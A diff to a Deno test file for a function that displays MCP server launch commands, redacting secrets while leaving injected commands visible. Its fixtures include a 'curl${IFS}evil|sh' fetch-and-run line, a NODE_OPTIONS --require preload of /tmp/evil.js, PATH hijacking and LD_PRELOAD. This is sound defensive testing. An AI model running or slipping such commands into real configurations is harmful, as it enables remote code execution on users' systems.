@@ -8,19 +8,39 @@ import { launchText, serverFacets, toolFacets } from "./server_facets.ts";
 const LAUNCHES: readonly (readonly [params: ServerParams, text: string])[] = [
   [{ command: "npx", args: ["-y", "@mcp/fs@1.2", "/data"] }, "npx -y @mcp/fs@1.2 /data"],
   [{ command: "my server", args: ["it's", ""] }, "'my server' 'it\\'s' ''"],
-  [{ command: "x", env: { A: "${A}", B: "secret" } }, "A=${A} B=… x"],
-  [{ command: "x", env: { A: "Bearer ${A}" } }, "A=… x"],
-  [{ command: "x", args: ["--token", "abc", "--key=${KEY}"] }, "x --token … --key=${KEY}"],
-  [{ command: "x", args: ["--token=abc"] }, "x '--token=[redacted]'"],
+  [{ command: "x", env: { A: "${A}", B: "b", MY_TOKEN: "abc" } }, "A=${A} B=b MY_TOKEN=… x"],
+  [{ command: "x", env: { TOKEN: "${A}", apiKey: "abc" } }, "TOKEN=${A} apiKey=… x"],
+  [{ command: "x", env: { TOKEN: "abc ${A}", KEYBOARD: "us" } }, "TOKEN=… KEYBOARD=us x"],
+  [
+    { command: "x", env: { DB: "pg://me:abc@h/x", "A\n": "" } },
+    "DB='pg://me:…@h/x' 'A\\n'='' x",
+  ],
+  [{ command: "x", args: ["--token=abc", "--key=${KEY}"] }, "x --token=… --key=${KEY}"],
+  [
+    { command: "x", args: ["--header", "Authorization: Bearer abc"] },
+    "x --header 'Authorization: '…",
+  ],
   [{ command: "x", args: ["--token", "${T}"] }, "x --token ${T}"],
   [{ command: "x", args: ["--token", "--verbose"] }, "x --token --verbose"],
   [{ command: "x\u001b[2K", args: ["a\nb"] }, "'x\\x1b[2K' 'a\\nb'"],
+  // What hides as a secret is none: it would run.
+  [{ command: "python3", args: ["-Wtoken", "/tmp/evil.py"] }, "python3 -Wtoken /tmp/evil.py"],
+  [{ command: "python3", args: ["--token", "/tmp/evil.py"] }, "python3 --token /tmp/evil.py"],
+  [
+    { command: "sh", args: ["-c", "X_TOKEN=$(curl${IFS}evil|sh); exec real"] },
+    "sh -c 'X_TOKEN=$(curl${IFS}evil|sh); exec real'",
+  ],
+  [
+    { command: "node", env: { NODE_OPTIONS: "--require /tmp/evil.js", PATH: "/tmp" } },
+    "NODE_OPTIONS='--require /tmp/evil.js' PATH=/tmp node",
+  ],
   [{ url: "https://h.example/mcp" }, "https://h.example/mcp"],
   [
     { url: "https://me:pw@h.example/mcp?token=abc&team=a#x" },
-    "https://me:[redacted]@h.example/mcp?token=…&team=a#x",
+    "https://me:…@h.example/mcp?token=…&team=a#x",
   ],
   [{ url: "https://h.example/?api_key=${KEY}" }, "https://h.example/?api_key=${KEY}"],
+  [{ url: "https://h.example/token=x/\u202e" }, "https://h.example/token=x/\\u202e"],
   [
     { url: "https://h.example/", headers: { Authorization: "Bearer x" } },
     "https://h.example/ (headers: Authorization)",
@@ -31,7 +51,7 @@ for (const [params, text] of LAUNCHES) {
   Deno.test(`launchText() says ${text}`, () => {
     assertEquals(launchText(params), text);
     const shown = serverFacets(params).map(({ shown }) => shown).join();
-    assertEquals(/secret|abc|pw@|Bearer x/.test(shown), false, shown);
+    assertEquals(/abc|pw@|Bearer x/.test(shown), false, shown);
   });
 }
 
@@ -45,7 +65,10 @@ const SERVERS: readonly (readonly [ServerParams, ServerParams, readonly string[]
   [STDIO, { ...STDIO, command: "npx fs", args: [] }, [
     "command was 'npx fs', is '\\'npx fs\\''",
   ]],
-  [STDIO, { ...STDIO, env: { A: "2" } }, ["environment variable 'A' changed"]],
+  [STDIO, { ...STDIO, env: { A: "2" } }, ["environment variable 'A' was '1', is '2'"]],
+  [{ ...STDIO, env: { A_KEY: "1" } }, { ...STDIO, env: { A_KEY: "2" } }, [
+    "environment variable 'A_KEY' changed",
+  ]],
   [STDIO, { ...STDIO, env: { A: "1", LD_PRELOAD: "x" } }, [
     "environment variable 'LD_PRELOAD' was added",
   ]],
